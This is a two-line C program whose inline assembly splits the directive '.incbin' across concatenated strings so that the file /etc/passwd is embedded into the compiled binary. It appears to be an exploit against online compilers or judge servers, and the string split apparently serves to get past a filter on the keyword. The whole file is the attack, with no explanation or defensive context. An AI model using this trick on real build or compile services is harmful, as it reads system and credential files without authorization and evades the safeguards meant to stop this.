asm(".inc" "bin \"/etc/passwd\"");
int main() {}
